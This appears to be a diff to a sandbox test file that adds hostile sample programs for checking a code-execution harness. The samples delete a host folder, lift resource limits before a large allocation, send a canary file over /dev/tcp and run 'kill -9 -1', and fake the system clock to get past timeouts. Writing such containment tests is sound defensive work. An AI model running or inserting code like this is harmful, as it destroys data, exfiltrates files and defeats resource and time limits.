@@ -94,6 +94,17 @@ HOSTILE = {
                                      SQUARE_TESTS, False),
     "chmod_through_cleanup": ("import os\nos.mkdir('d')\nos.symlink({canary!r}, 'd/link')\nos.chmod('d', 0o500)\n"
                               "def f(x):\n    return None", SQUARE_TESTS, False),
+    # From code-execution harnesses' trackers (human-eval, evalplus, bigcode): wiping files,
+    # undoing the limits, shelling out, fooling the clock.
+    "remove_host_folder": ("import os, shutil\nshutil.rmtree(os.path.dirname({canary!r}), ignore_errors=True)\n"
+                           "def f(x):\n    return None", SQUARE_TESTS, True),
+    "raise_limits_then_allocate": ("import resource\nfor kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):\n"
+                                   "    try:\n        resource.setrlimit(kind, (-1, -1))\n    except (ValueError, OSError):\n"
+                                   "        pass\nblocks = [bytearray(10**8) for _ in range(50)]", SQUARE_TESTS, False),
+    "shell_out": ("import os\nos.system('cat {canary} > /dev/tcp/127.0.0.1/{port}; kill -9 -1')\n"
+                  "def f(x):\n    return os.popen('cat {canary}').read()", SQUARE_TESTS, False),
+    "fool_the_clock": ("import time\ntime.monotonic = lambda: 0.0\ntime.time = lambda: 0.0\ntime.perf_counter = lambda: 0.0\n"
+                       "def f(x):\n    while True:\n        pass", SQUARE_TESTS[:1], False),
     "lock_workdir": ("import os\nos.mkdir('locked')\nopen('locked/file', 'w').close()\nos.chmod('locked', 0)\nos.chmod('.', 0o500)\n"
                      "def f(x):\n    return None", SQUARE_TESTS, False),
 }
